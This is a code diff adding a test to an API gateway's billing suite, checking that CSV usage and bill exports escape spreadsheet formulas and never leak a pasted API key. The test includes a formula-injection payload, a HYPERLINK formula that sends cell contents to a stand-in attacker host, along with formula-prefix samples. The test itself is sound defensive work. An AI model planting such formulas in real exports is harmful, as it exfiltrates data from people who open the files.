@@ -3,6 +3,7 @@ control loop, and the usage/bill API (JSON and CSV)."""
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
 import secrets
@@ -15,6 +16,7 @@ from fastapi.testclient import TestClient
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from gateway_support import FakeKeys, MemorySink, chat_body, client_for, make_gateway, make_key
 from suanwang.bootstrap import build_app
 from suanwang.config import Settings
 from suanwang.domain.billing import Meter, make_bill, parse_period
@@ -222,6 +224,62 @@ def test_bill_json_and_csv_agree_with_usage(
     assert table[-1]["amount_micro"] == "48200002"
     usage_csv = client.get("/api/v1/usage?period=2026-11&format=csv", headers=auth(keys, "op"))
     assert {r["tenant"] for r in csv.DictReader(io.StringIO(usage_csv.text))} == {"aaa", "bbb"}
+
+
+FORMULAS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2"]
+
+
+class At:
+    def now(self) -> float:
+        return T
+
+
+def gateway_rows(*models: str) -> list[TokenUsage]:
+    """What the gateway records for requests to ``models`` (none of them deployed)."""
+    keys, sink = FakeKeys(), MemorySink()
+    key = keys.add("aaa")
+    app = make_gateway([], keys=keys, sink=sink, clock=At())
+
+    async def go() -> None:
+        async with client_for(app) as client:
+            for model in models:
+                body = chat_body(model=model)
+                await client.post("/v1/chat/completions", json=body, headers=auth({"k": key}, "k"))
+
+    asyncio.run(go())
+    return list(sink.rows.values())
+
+
+def test_csv_exports_hold_no_formula_and_no_pasted_key(
+    api: tuple[TestClient, Platform, dict[str, str]],
+) -> None:
+    """Requests naming a formula or a pasted key as the model reach the ledger as
+    ``unknown``; text cells starting like a formula (rows written before that rule, or any
+    name) are escaped with a leading ``'`` in the usage and bill CSV."""
+    client, platform, keys = api
+    pasted = make_key()
+    formula = '=HYPERLINK("http://evil.example/?q="&A1,"invoice")'
+    legacy = [tokens(f"f{i}", "aaa", model, 10, 5) for i, model in enumerate(FORMULAS)]
+    with platform.uows() as uow:
+        uow.usage.append([*gateway_rows(formula, pasted), *legacy], T)
+        uow.commit()
+    exports = [
+        client.get("/api/v1/tenants/aaa/bills/2026-11?format=csv", headers=auth(keys, "aaa")),
+        client.get("/api/v1/usage?period=2026-11&format=csv", headers=auth(keys, "op")),
+        client.get(
+            "/api/v1/tenants/aaa/usage?period=2026-11&format=csv", headers=auth(keys, "aaa")
+        ),
+    ]
+    for export in exports:
+        assert export.status_code == 200
+        assert "HYPERLINK" not in export.text
+        assert pasted[3:20] not in export.text
+        table = list(csv.reader(io.StringIO(export.text, newline="")))
+        assert len({len(row) for row in table}) == 1  # a CR or LF in a cell cannot cut a row
+        cells = [cell for row in table for cell in row]
+        assert "unknown" in cells
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+        assert {"'" + model for model in FORMULAS} <= set(cells)
 
 
 def test_isolation_tiers_and_bad_periods(api: tuple[TestClient, Platform, dict[str, str]]) -> None:
